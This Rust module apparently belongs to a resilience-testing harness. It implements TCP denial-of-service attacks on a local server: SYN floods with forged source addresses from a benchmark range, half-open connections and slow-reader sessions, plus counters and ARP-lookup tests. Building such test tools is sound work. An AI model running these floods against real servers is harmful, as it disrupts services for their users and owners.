//! An attack against the clock: what is sent when, and what is counted.

use std::fs;
use std::net::{IpAddr, Ipv4Addr, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result, bail, ensure};
use link::{Link as _, Packet, PacketConfig, TransmitError};
use load::random::Random;
use rustix::event::{PollFd, PollFlags, Timespec, poll};
use serde::{Deserialize, Serialize};
use wire::{
    HEADERS_BYTES_MAX, Incoming, MacAddress, Offload, Outgoing, Route, SeqNumber, TcpChecksum,
    TcpRepr, parse_frame,
};

use crate::args::{AttackArgs, Kind};
use crate::peers::{Answer, Peers};

/// Where the kernel lists the addresses that ARP found.
const ARP_TABLE: &str = "/proc/net/arp";
/// Longest wait for the connection that makes the kernel ask for the server's MAC address.
const CONNECT_TIMEOUT: Duration = Duration::from_secs(5);
/// Segments sent, and frames taken, before the other is looked at.
const BATCH: usize = 64;
/// Pause when nothing is to be done.
const PAUSE: Duration = Duration::from_micros(500);
const NANOS_PER_SECOND: u128 = 1_000_000_000;
/// The network of forged addresses: of benchmarks, never routed (RFC 2544).
const FORGED_NETWORK: u32 = 0xc612_0000;
const FORGED_HOSTS: u64 = 1 << 17;
/// In this network nobody has an address.
const NOBODY: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 1);

/// What an attack sent and met.
#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize)]
pub struct Report {
    /// How long it took, seconds.
    pub seconds: f64,
    /// Segments sent.
    pub sent_segments: u64,
    /// Segments that the interface did not take.
    pub lost_segments: u64,
    /// Segments of the server that were looked at.
    pub received_segments: u64,
    /// Connections whose handshake was completed.
    pub established: u64,
    /// Connections open at the end, as far as the peers know.
    pub open_at_end: u64,
    /// Resets received.
    pub resets: u64,
}

impl Report {
    /// The same for people.
    #[must_use]
    pub fn text(&self) -> String {
        format!(
            "{} segments in {:.1} s, {} lost; {} received; {} connections established, {} resets, {} \
             open at the end\n",
            self.sent_segments,
            self.seconds,
            self.lost_segments,
            self.received_segments,
            self.established,
            self.resets,
            self.open_at_end
        )
    }
}

/// Attacks until the time is over or `is_stopped`.
pub(crate) fn attack(args: &AttackArgs, is_stopped: &AtomicBool) -> Result<Report> {
    ensure!(
        args.path.starts_with('/') && !args.path.contains(char::is_whitespace),
        "--path {:?}: it begins with / and has no spaces",
        args.path
    );
    let server_mac = mac_of(args)?;
    let link = Packet::open(&PacketConfig::new(&args.interface, &[args.address.into()]))?;
    let request = format!(
        "GET {} HTTP/1.1\r\nHost: {}\r\n\r\n",
        args.path, args.server
    );
    let peers = Peers::new(
        args.kind,
        args.server.port(),
        args.connections,
        request.len(),
    );
    let destination = match args.kind {
        Kind::Nobody => NOBODY,
        _ => *args.server.ip(),
    };
    let route = Route {
        source_mac: link.capabilities().mac,
        destination_mac: server_mac,
        source: args.address.into(),
        destination: destination.into(),
    };
    let mut attack = Attack {
        sender: Sender {
            link,
            route,
            random: Random::new(1),
            sent: 0,
            lost: 0,
        },
        peers,
        request: request.into_bytes(),
        received: 0,
        swept: 0,
    };
    let began = Instant::now();
    let length = Duration::try_from_secs_f64(args.seconds).context("--seconds")?;
    while began.elapsed() < length && !is_stopped.load(Ordering::Relaxed) {
        attack.step(args, began.elapsed())?;
    }
    Ok(attack.report(began.elapsed()))
}

struct Attack {
    sender: Sender,
    peers: Peers,
    request: Vec<u8>,
    received: u64,
    /// Turns of half-open peers, which send their SYN each second, and of slow readers, which
    /// acknowledge each second, taken so far.
    swept: u64,
}

impl Attack {
    /// What is due `elapsed` after the beginning; pauses if that is nothing.
    fn step(&mut self, args: &AttackArgs, elapsed: Duration) -> Result<()> {
        let done = match args.kind {
            Kind::SynFlood | Kind::Nobody => self.flood(args, elapsed)?,
            _ => self.open(args, elapsed)? + self.sweep(args.kind, elapsed)? + self.receive()?,
        };
        if done == 0 {
            self.sender.pause()?;
        }
        Ok(())
    }

    /// A batch of SYNs from forged addresses.
    fn flood(&mut self, args: &AttackArgs, elapsed: Duration) -> Result<usize> {
        if let Some(rate) = args.rate {
            let due = due(elapsed, rate);
            if self.sender.sent + self.sender.lost >= due {
                return Ok(0);
            }
        }
        for _ in 0..BATCH {
            let number = self.sender.random.below(self.peers.count().into());
            let number = u32::try_from(number).expect("invariant: below a u32");
            let syn = self.peers.syn(number);
            self.sender.send_forged(syn)?;
        }
        Ok(BATCH)
    }

    /// Opens the connections that are due.
    fn open(&mut self, args: &AttackArgs, elapsed: Duration) -> Result<usize> {
        let due = due(elapsed, args.open_rate).min(self.peers.count().into());
        let mut sent = 0;
        while u64::from(self.peers.opened()) < due && sent < BATCH {
            let Some(syn) = self.peers.open_next() else {
                break;
            };
            self.sender.send(&syn, &[])?;
            sent += 1;
        }
        Ok(sent)
    }

    /// What peers do each second, spread over it.
    fn sweep(&mut self, kind: Kind, elapsed: Duration) -> Result<usize> {
        if !matches!(kind, Kind::HalfOpen | Kind::SlowReader) {
            return Ok(0);
        }
        let count = self.peers.count();
        let due = due(elapsed, count);
        let count = u64::from(count);
        let mut taken = 0;
        while self.swept < due && taken < BATCH {
            let number = u32::try_from(self.swept % count).expect("invariant: below a u32");
            self.swept += 1;
            taken += 1;
            let segment = match kind {
                Kind::HalfOpen if number < self.peers.opened() => Some(self.peers.syn(number)),
                Kind::HalfOpen => None,
                _ => self.peers.late_ack(number),
            };
            if let Some(segment) = segment {
                self.sender.send(&segment, &[])?;
            }
        }
        Ok(taken)
    }

    /// Takes a batch of frames and answers them.
    fn receive(&mut self) -> Result<usize> {
        let (peers, route) = (&mut self.peers, self.sender.route);
        let mut answers = Vec::new();
        let mut received = 0;
        let mut sink = |frame: link::Received<'_>| {
            if let Ok(Incoming::Tcp {
                path,
                segment,
                payload,
                ..
            }) = parse_frame(frame.frame, frame.checksum)
                && path.source == route.destination
            {
                received += 1;
                if let Answer::Now {
                    segment,
                    with_request,
                } = peers.answer(&segment, payload.len())
                {
                    answers.push((segment, with_request));
                }
            }
        };
        let taken = (self.sender.link).receive(clock::Instant::ZERO, BATCH, &mut sink)?;
        self.received += received;
        for (segment, with_request) in answers {
            let payload = if with_request { &self.request[..] } else { &[] };
            self.sender.send(&segment, payload)?;
        }
        Ok(taken)
    }

    fn report(&self, elapsed: Duration) -> Report {
        Report {
            seconds: elapsed.as_secs_f64(),
            sent_segments: self.sender.sent,
            lost_segments: self.sender.lost,
            received_segments: self.received,
            established: self.peers.established,
            open_at_end: self.peers.open() as u64,
            resets: self.peers.resets,
        }
    }
}

/// The way out.
struct Sender {
    link: Packet,
    route: Route,
    random: Random,
    sent: u64,
    lost: u64,
}

impl Sender {
    /// Sends a segment from an address and a sequence number drawn at random.
    fn send_forged(&mut self, mut segment: TcpRepr) -> Result<()> {
        let host = u32::try_from(self.random.below(FORGED_HOSTS)).expect("invariant: below a u32");
        let sequence = self.random.below(1 << 32);
        segment.sequence = SeqNumber(u32::try_from(sequence).expect("invariant: below 2^32"));
        let route = Route {
            source: IpAddr::V4(Ipv4Addr::from_bits(FORGED_NETWORK + host)),
            ..self.route
        };
        self.send_on(&route, &segment, &[])
    }

    fn send(&mut self, segment: &TcpRepr, payload: &[u8]) -> Result<()> {
        let route = self.route;
        self.send_on(&route, segment, payload)
    }

    fn send_on(&mut self, route: &Route, segment: &TcpRepr, payload: &[u8]) -> Result<()> {
        let mut headers = [0; HEADERS_BYTES_MAX];
        let payload = [payload];
        let length = wire::emit_tcp(&mut headers, route, segment, &payload, TcpChecksum::Full, 0);
        let frame = Outgoing {
            headers: &headers[..length],
            payload: &payload,
            offload: Offload::default(),
        };
        match self.link.transmit(clock::Instant::ZERO, &frame) {
            Ok(_) => self.sent += 1,
            // An attacker does not wait for room.
            Err(TransmitError::Full | TransmitError::Lost(_)) => self.lost += 1,
        }
        Ok(())
    }

    fn pause(&self) -> Result<()> {
        let fd = self.link.poll_fd().context("a real link has one")?;
        let pause = Timespec::try_from(PAUSE)?;
        poll(&mut [PollFd::new(&fd, PollFlags::IN)], Some(&pause))?;
        Ok(())
    }
}

/// How much of what is done so often a second is due so long after the beginning.
fn due(elapsed: Duration, per_second: u32) -> u64 {
    let count = elapsed.as_nanos() * u128::from(per_second) / NANOS_PER_SECOND;
    u64::try_from(count).unwrap_or(u64::MAX)
}

/// The server's MAC address: the kernel asks for it when it connects.
fn mac_of(args: &AttackArgs) -> Result<MacAddress> {
    let server = args.server;
    TcpStream::connect_timeout(&server.into(), CONNECT_TIMEOUT)
        .with_context(|| format!("connecting to {server}: does it run?"))?;
    let table = fs::read_to_string(ARP_TABLE).context(ARP_TABLE)?;
    let Some(mac) = find_mac(&table, *server.ip()) else {
        bail!("{server} is not on the network of {}", args.interface);
    };
    Ok(mac)
}

/// The MAC address beside an address in the kernel's table.
fn find_mac(table: &str, address: Ipv4Addr) -> Option<MacAddress> {
    let address = address.to_string();
    let mut rows = table.lines().map(|line| line.split_ascii_whitespace());
    let mac = rows.find_map(|mut row| (row.next()? == address).then(|| row.nth(2))?)?;
    let mut bytes = [0; 6];
    let mut parts = mac.split(':');
    for byte in &mut bytes {
        *byte = u8::from_str_radix(parts.next()?, 16).ok()?;
    }
    (parts.next().is_none() && bytes != [0; 6]).then_some(MacAddress(bytes))
}

#[cfg(test)]
mod tests {
    use super::*;

    const TABLE: &str = "\
IP address       HW type     Flags       HW address            Mask     Device
10.77.0.2        0x1         0x2         02:aa:00:00:00:0f     *        wire1
10.77.0.3        0x1         0x0         00:00:00:00:00:00     *        wire1
";

    #[test]
    fn what_is_due_begins_with_nothing_and_is_complete_after_a_second() {
        assert_eq!(due(Duration::ZERO, 10), 0);
        assert_eq!(due(Duration::from_millis(99), 10), 0);
        assert_eq!(due(Duration::from_millis(100), 10), 1);
        assert_eq!(due(Duration::from_secs(1), u32::MAX), u64::from(u32::MAX));
    }

    #[test]
    fn the_servers_mac_is_read_from_the_kernels_table() {
        let find = |last| find_mac(TABLE, Ipv4Addr::new(10, 77, 0, last));
        assert_eq!(find(2), Some(MacAddress([2, 0xaa, 0, 0, 0, 15])));
        // Not resolved, and not there.
        assert_eq!(find(3), None);
        assert_eq!(find(20), None);
    }
}
